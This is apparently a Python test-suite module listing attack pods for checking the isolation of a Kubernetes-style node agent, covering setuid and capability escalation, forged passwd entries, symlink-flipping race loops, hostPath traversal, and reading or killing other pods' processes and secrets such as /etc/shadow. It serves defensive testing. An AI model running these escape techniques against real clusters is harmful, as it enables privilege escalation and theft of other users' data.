"""What the pods of the attack suite try, one row for each: how to become root, or to reach what is another user's.

Invariant: a row succeeds by itself where its lock is missing: it prints GAINED or the secret, changes what is root's, or ends the victim.

In scripts and fields `@name@` stands for a path or a number of the scene, see `test_attacks.Scene`.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any, Final

from attrs import frozen

READ: Final = "cat @private@/shadow"


def flipping(base: str, target: str) -> str:
    """Exchanges a directory `d` with a link `e`, some hundred times in each millisecond that it does not sleep.

    A race needs exchanges in quick succession; without pauses six such pods take two cores from the node that they attack.
    """
    begin = 'my ($d, $e) = ("d", "e"); my $rename = `uname -m` =~ /x86/ ? 316 : 276'
    swap = f"{begin}; while (1) {{ syscall($rename, -100, $d, -100, $e, 2) for 1..300; select(undef, undef, undef, 0.001) }}"
    return f"mkdir -p {base}/d; ln -sfn {target} {base}/e; chmod 777 {base}/d; cd {base}; exec perl -e '{swap}'"


@frozen(kw_only=True)
class Attack:
    """One pod. `first` runs to its end before the rest, `beside` goes on meanwhile; all see the same volumes."""

    name: str
    script: str = "true"
    first: str = ""
    beside: str = ""
    command: str = ""
    """By `kubectl exec`, as probes and hooks of the kind exec do it too."""
    volumes: Mapping[str, Any] = {}
    mounts: Sequence[Mapping[str, Any]] = ()
    """Of the main container; the others have `v` at /srv/v."""
    security: Mapping[str, Any] = {}
    pod_security: Mapping[str, Any] = {}
    container: Mapping[str, Any] = {}
    """Further fields of the main container."""
    ephemeral: bool = False


PROC: Final = (
    "mkdir -p /srv/v/self/fd; ln -s @protected@/file /srv/v/self/oom_score_adj; "
    "for i in $(seq 3 60); do ln -s /etc/hostname /srv/v/self/fd/$i; done"
)
EMPTY: Final = {"v": {"emptyDir": {}}}
AT_V: Final = ({"name": "v", "mountPath": "/srv/v"},)


def config(name: str, path: str, **more: Any) -> dict[str, Any]:
    """A volume of a ConfigMap, and where it is mounted."""
    return {"volumes": {"v": {"configMap": {"name": name}}}, "mounts": ({"name": "v", "mountPath": path, **more},)}


def at(path: str, **more: Any) -> tuple[dict[str, Any], ...]:
    return ({"name": "v", "mountPath": path, **more},)


SET_ID: Final = (
    Attack(name="set-user-id", script=f"@tools@/{READ.replace('cat', 'cat-user', 1)}"),
    Attack(name="set-group-id", script="@tools@/cat-group @protected@/group"),
    Attack(name="file-capabilities", script="@tools@/cat-capable @private@/shadow"),
    Attack(
        name="set-user-id-in-host-path",
        script="/srv/v/cat-user @private@/shadow",
        volumes={"v": {"hostPath": {"path": "@open@"}}},
        mounts=AT_V,
    ),
    Attack(name="set-user-id-by-exec", script="sleep 1000", command="@tools@/cat-user @private@/shadow"),
    Attack(name="set-user-id-in-ephemeral-container", script="@tools@/cat-user @private@/shadow", ephemeral=True),
    Attack(name="own-pam", script="su root -s /bin/sh -c 'cat @private@/shadow; touch @mark@'", **config("pam", "/etc/pam.d")),
    Attack(
        name="own-passwd",
        script="echo x | su evil -s /bin/sh -c 'cat @private@/shadow'",
        **config("passwd", "/etc/passwd", subPath="passwd"),
    ),
    Attack(
        name="own-passwd-by-termination-message",
        first="echo evil::0:0::/:/bin/sh > /srv/v/passwd",
        script="echo evil::0:0::/:/bin/sh > /etc/passwd; su evil -c 'cat @private@/shadow'",
        volumes=EMPTY,
        container={"terminationMessagePath": "/etc/passwd"},
        mounts=AT_V,
    ),
)
"""These would read what is root's alone if their programs were executed as their owners; see the control in the tests."""

RIGHTS: Final = (
    Attack(name="asks-for-escalation", script="@tools@/cat-user @private@/shadow", security={"allowPrivilegeEscalation": True}),
    Attack(name="asks-for-privileged", script="@tools@/cat-user @private@/shadow", security={"privileged": True}),
    Attack(name="asks-for-capabilities", script=READ, security={"capabilities": {"add": ["DAC_OVERRIDE", "SYS_ADMIN"]}}),
    Attack(name="user-root", script=READ, security={"runAsUser": 0}),
    Attack(name="group-root", script="cat @protected@/group", security={"runAsGroup": 0}),
    Attack(name="fs-group-root", script="cat @protected@/group", pod_security={"fsGroup": 0}),
    Attack(name="supplemental-group-root", script="cat @protected@/group", pod_security={"supplementalGroups": [0]}),
    Attack(name="group-of-the-host", script="cat @protected@/member", pod_security={"supplementalGroups": ["@host-group@"]}),
    Attack(name="user-with-the-number-of-a-group", script="cat @protected@/member", security={"runAsUser": "@host-group@"}),
    Attack(
        name="user-namespace",
        script="unshare -Ur @tools@/cat-user @private@/shadow; unshare -Urm sh -c 'mount --bind @private@ /mnt; cat /mnt/shadow'",
    ),
    Attack(
        name="capabilities-left",
        script="setpriv --inh-caps=+all --ambient-caps=+all cat @private@/shadow; "
        "grep -q 'Cap[IPEA]..:.*[1-9a-f]' /proc/self/status && echo GAINED",
    ),
    Attack(
        name="mounts-of-its-own",
        script="umount /etc/hosts && echo GAINED; mount --bind @private@ /mnt && echo GAINED",
    ),
    Attack(
        name="device-nodes",
        script="for d in 'b 8 0' 'c 1 1'; do mknod /srv/v/n $d && echo GAINED; rm -f /srv/v/n; done",
        volumes=EMPTY,
        mounts=AT_V,
    ),
    Attack(
        name="disks-and-memory", script="for d in /dev/mem /dev/port $(find /dev -type b); do head -c 1 $d > /dev/null && echo GAINED; done"
    ),
    Attack(name="keys-of-root", script="grep @key@ /proc/keys && echo GAINED"),
    Attack(
        name="settings-of-the-kernel",
        script="for f in sys/kernel/core_pattern sys/kernel/modprobe sys/vm/drop_caches sysrq-trigger; "
        "do [ -w /proc/$f ] && echo GAINED; done; true",
    ),
    Attack(
        name="control-groups",
        script="for f in $(find /sys/fs/cgroup -path '*@cgroup@*' \\( -name cgroup.procs -o -name '*.limit_in_bytes' -o -name "
        "'*.max' -o -name release_agent \\)); "
        "do [ -w $f ] && echo GAINED; done; true",
    ),
    Attack(
        name="mount-propagation",
        script="unshare -Urm mount -t tmpfs x /srv/v; true",
        volumes=EMPTY,
        mounts=at("/srv/v", mountPropagation="Bidirectional"),
    ),
)

TARGETS: Final = (
    Attack(
        name="proc-volume",
        first=PROC,
        volumes=EMPTY,
        mounts=at("/proc"),
    ),
    Attack(
        name="proc-volume-with-descriptors",
        first="mkdir -p /srv/v/self/fd; for i in $(seq 3 60); do ln -s @private@/app /srv/v/self/fd/$i; done",
        script="cat /srv/w/config",
        volumes={**EMPTY, "w": {"emptyDir": {}}},
        mounts=(*at("/proc"), {"name": "w", "mountPath": "/srv/w"}),
    ),
    Attack(name="proc-file-by-termination-message", script="true", container={"terminationMessagePath": "/proc/self/oom_score_adj"}),
    Attack(name="sys-volume", script="echo GAINED", volumes=EMPTY, mounts=at("/sys")),
    Attack(
        name="proc-by-a-link-in-a-volume",
        first=f"ln -s /proc /srv/v/link; {PROC}",
        script="[ -e /proc/1/stat ] || echo GAINED",
        volumes={**EMPTY, "w": {"emptyDir": {}}},
        mounts=(*AT_V, {"name": "w", "mountPath": "/srv/v/link"}),
    ),
    Attack(
        name="library-of-the-keeper",
        first="for m in __init__ ascii warnings re; do echo 'import os; os.system(\"touch @mark@\")' > /srv/v/$m.py; done",
        volumes=EMPTY,
        mounts=(*at("@library@/encodings"), *at("/srv/v")),
    ),
    Attack(name="dev-volume", script="echo GAINED", volumes=EMPTY, mounts=at("/dev")),
    Attack(name="working-directory", script="cat config", container={"workingDir": "@private@/app"}),
    Attack(
        name="working-directory-of-another",
        script="cat .@private@/shadow config",
        container={"workingDir": "/proc/@vkubelet@/cwd@private@/app"},
    ),
    Attack(
        name="working-directory-by-a-link",
        first="ln -s @private@/app /srv/v/link",
        script="cat config",
        container={"workingDir": "/srv/v/link"},
        volumes=EMPTY,
        mounts=AT_V,
    ),
    Attack(name="working-directory-made", script="true", container={"workingDir": "@protected@/made"}),
    Attack(
        name="own-directory-hidden",
        first="mkdir -p /srv/v/containers/main/0; ln -s @private@/app /srv/v/containers/main/0/root",
        script="cat config",
        volumes=EMPTY,
        mounts=at("@pods@/@uid@"),
    ),
    Attack(
        name="mount-below-a-link-that-flips",
        beside=flipping("/srv/v", "@protected@"),
        script="ls -d /srv/v/d/*",
        volumes={**EMPTY, "w": {"emptyDir": {}}},
        mounts=(*AT_V, *({"name": "w", "mountPath": f"/srv/v/d/m{number}"} for number in range(20))),
    ),
    Attack(
        name="mount-through-a-shared-directory-that-flips",
        beside=flipping("@open@/flip-mount", "@private@/app"),
        first="mkdir -p @open@/flip-mount",
        script="find @open@/flip-mount -maxdepth 3 -name config -exec cat {} ';'",
        volumes=EMPTY,
        mounts=tuple({"name": "v", "mountPath": f"@open@/flip-mount/m{number}"} for number in range(20)),
    ),
)

VOLUMES: Final = (
    Attack(name="sub-path-link", first="ln -s @protected@ /srv/v/d", volumes=EMPTY, mounts=at("/srv/w", subPath="d/made")),
    Attack(name="sub-path-out-of-the-volume", script="ls /srv/w", volumes=EMPTY, mounts=at("/srv/w", subPath="../../../..")),
    Attack(
        name="sub-path-that-flips",
        beside=flipping("/srv/v", "@protected@"),
        volumes=EMPTY,
        mounts=tuple({"name": "v", "mountPath": f"/srv/m{number}", "subPath": f"d/made{number}"} for number in range(40)),
    ),
    Attack(name="host-path-not-allowed", script="cat /srv/v/shadow", volumes={"v": {"hostPath": {"path": "@private@"}}}, mounts=AT_V),
    Attack(name="host-path-upwards", script="cat /srv/v/shadow", volumes={"v": {"hostPath": {"path": "@open@/../private"}}}, mounts=AT_V),
    Attack(
        name="host-path-by-a-link",
        first="ln -sfn @private@ @open@/link",
        script="cat /srv/w/app/config",
        volumes={**EMPTY, "w": {"hostPath": {"path": "@open@/link"}}},
        mounts=({"name": "w", "mountPath": "/srv/w"},),
    ),
    Attack(
        name="host-path-directory-that-flips",
        first="mkdir -p @open@/flip-dir",
        beside=flipping("@open@/flip-dir", "@protected@"),
        volumes={
            **EMPTY,
            **{
                f"w{number}": {"hostPath": {"path": f"@open@/flip-dir/d/made{number}", "type": "DirectoryOrCreate"}} for number in range(20)
            },
        },
        mounts=tuple({"name": f"w{number}", "mountPath": f"/srv/w{number}"} for number in range(20)),
    ),
    Attack(
        name="host-path-file-that-flips",
        first="mkdir -p @open@/flip-file",
        beside=flipping("@open@/flip-file", "@protected@"),
        volumes={
            **EMPTY,
            **{f"w{number}": {"hostPath": {"path": f"@open@/flip-file/d/nologin{number}", "type": "FileOrCreate"}} for number in range(20)},
        },
        mounts=tuple({"name": f"w{number}", "mountPath": f"/srv/w{number}"} for number in range(20)),
    ),
    Attack(
        name="host-path-source-that-flips",
        first="mkdir -p @open@/flip-source/d/app; echo mine > @open@/flip-source/d/app/config",
        beside=flipping("@open@/flip-source", "@private@"),
        script="cat /srv/w*/config",
        volumes={**EMPTY, **{f"w{number}": {"hostPath": {"path": "@open@/flip-source/d/app"}} for number in range(10)}},
        mounts=tuple({"name": f"w{number}", "mountPath": f"/srv/w{number}"} for number in range(10)),
    ),
    Attack(
        name="links-among-records",
        script="cd @pods@/@uid@; for d in . files etc containers/main/0 containers/main/0/log; "
        "do ln -s @private@/shadow $d/evil && echo GAINED; rm -r $d/* && echo GAINED; done; true",
    ),
    Attack(
        name="links-instead-of-logs",
        first="sleep 0",
        script="cd @pods@/@uid@/containers/main/0/log && ln -sf @protected@/file 000000.log && echo GAINED; true",
    ),
    Attack(
        name="termination-message-link",
        script="rm -f /dev/termination-log; ln -s @private@/shadow /dev/termination-log; mv /srv/v/x /dev/termination-log",
        volumes=EMPTY,
        mounts=AT_V,
    ),
    Attack(
        name="termination-message-in-a-volume",
        first="ln -s @private@/shadow /srv/v/message",
        script="true",
        container={"terminationMessagePath": "/srv/v/message"},
        volumes=EMPTY,
        mounts=AT_V,
    ),
    Attack(
        name="written-configuration",
        script="echo x > /srv/v/su && echo GAINED; ln -s @private@/shadow /srv/v/link && echo GAINED; true",
        **config("pam", "/srv/v"),
    ),
    Attack(name="hosts-file", script="for f in /etc/hosts /etc/hostname; do echo x >> $f && echo GAINED; done; true"),
)

OTHERS: Final = (
    Attack(
        name="descriptors",
        script="for f in /proc/self/fd/*; do case $(readlink $f) in *socket:*|*lock|*.log|@pods@*|anon_inode*) echo GAINED;; esac; "
        "done; true",
    ),
    Attack(
        name="descriptors-by-exec",
        script="sleep 1000",
        command="for f in /proc/self/fd/*; do case $(readlink $f) in *socket:*|*lock|*.log|@pods@*) echo GAINED;; esac; done; true",
    ),
    Attack(name="environment", script="env | grep -q OF_VKUBELET && echo GAINED; cat /proc/$PPID/environ /proc/@vkubelet@/environ"),
    Attack(
        name="keeper",
        script="ls /proc/$PPID/fd && echo GAINED; kill -9 $PPID && echo GAINED; kill -STOP $PPID && echo GAINED; "
        "[ -w @pods@/@uid@/containers/main/0/keeper.sock ] && echo GAINED; true",
    ),
    Attack(
        name="files-of-another-pod",
        script="cd @pods@/@victim@; "
        "cat files/volumes/*/* containers/main/0/root/* containers/main/0/log/* containers/main/0/* pod.json; "
        "ls . && echo GAINED; ls files && echo GAINED; true",
    ),
    Attack(
        name="process-of-another-pod",
        script="p=/proc/@victim-pid@; cat $p/environ $p/root/srv/secret/* $p/cwd/*; ls $p/fd && echo GAINED; "
        "head -c 1 $p/mem && echo GAINED; true",
    ),
    Attack(
        name="signals",
        script="kill -9 @victim-pid@ @victim-keeper@; for p in @victim-pid@ @vkubelet@ 1; do kill -0 $p && echo GAINED; done; true",
    ),
    Attack(name="commands-in-another-pod", script="[ -w @pods@/@victim@/containers/main/0/keeper.sock ] && echo GAINED; true"),
    Attack(
        name="forged-records",
        script="d=@pods@/@victim@/containers/main/0; for f in state.json container.json lock termination-log; "
        "do echo x > $d/$f && echo GAINED; done; true",
    ),
    Attack(
        name="namespace-of-another-pod", script="nsenter -t @victim-pid@ -m cat /srv/secret/password; nsenter -t 1 -m cat @private@/shadow"
    ),
    Attack(
        name="groups-of-the-creator",
        script="id -G | grep -qw 0 && echo GAINED; touch /srv/v/x; [ $(stat -c %g /srv/v/x) = 0 ] && echo GAINED; true",
        pod_security={"fsGroup": 23456},
        volumes=EMPTY,
        mounts=AT_V,
    ),
)

ATTACKS: Final = (*SET_ID, *RIGHTS, *TARGETS, *VOLUMES, *OTHERS)
